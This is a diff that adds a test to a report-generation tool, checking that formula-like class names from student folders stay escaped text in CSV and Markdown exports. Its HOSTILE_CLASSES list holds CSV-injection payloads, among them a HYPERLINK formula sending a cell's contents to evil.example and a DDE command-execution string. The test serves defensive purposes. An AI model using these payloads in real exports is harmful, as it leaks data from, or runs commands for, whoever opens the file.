@@ -350,3 +350,36 @@ def test_manifest_without_classes_loads(report):
     assert result.exit_code == 0 and "ok (1 model(s), 1 experiment(s) giving 1 run(s), 6 section(s))" in result.output
     from reportgen.build import load
     assert load(manifest).manifest.dataset.classes == CLASSES  # read from the folders, in sorted order
+
+
+# ---------------------------------------------------------------- hostile class names in the export
+
+HOSTILE_CLASSES = ['=HYPERLINK("https:evil.example?x="&A1,"open")', "@SUM(1+1)", "+cmd|' -C calc'!A0",
+                   "-2+3", "plain"]  # folder names: no "/"
+
+
+@pytest.mark.slow
+def test_class_names_that_look_like_formulas_stay_text_in_the_csv_export(tmp_path):
+    """Class names come from folder names a student chose; graders open the exported CSV in a spreadsheet."""
+    for k, name in enumerate(HOSTILE_CLASSES):
+        for i in range(6):
+            _save(tmp_path / "images" / name / f"{i:03d}.png", (40 * k, 200 - 30 * k, 90), 12, 12, seed=10 * k + i)
+    manifest = tmp_path / "hostile.yaml"
+    manifest.write_text(MANIFEST_NO_CLASSES.replace("  - dataset: {grid: [3, 3], tsne_sample: 30, sample: 40}\n",
+                                                    "  - dataset: {grid: [2, 2], pca: false, tsne: false}\n"),
+                        "utf-8")
+    result = cli("build", manifest, "--out", tmp_path / "out", "--no-pdf", "--export", "csv,markdown")
+    assert result.exit_code == 0, result.output
+    import csv
+
+    with (tmp_path / "out" / "export" / "tables" / "dataset-counts.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    shown = {row[0] for row in rows[1:-1]}
+    assert shown == {"'" + n for n in HOSTILE_CLASSES[:-1]} | {"plain"}, shown
+    assert all(int(row[1]) == 6 for row in rows[1:-1])  # the counts stay numbers
+    for path in (tmp_path / "out" / "export" / "tables").glob("*.csv"):
+        with path.open(encoding="utf-8", newline="") as fh:
+            cells = [cell for row in csv.reader(fh) for cell in row]
+        assert not [c for c in cells if c and c[0] in "=+@" or c.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", c)]
+    md = (tmp_path / "out" / "export" / "report.md").read_text("utf-8")
+    assert "evil.example" in md and "](https:evil" not in md and "<a " not in md.split("## ")[1]
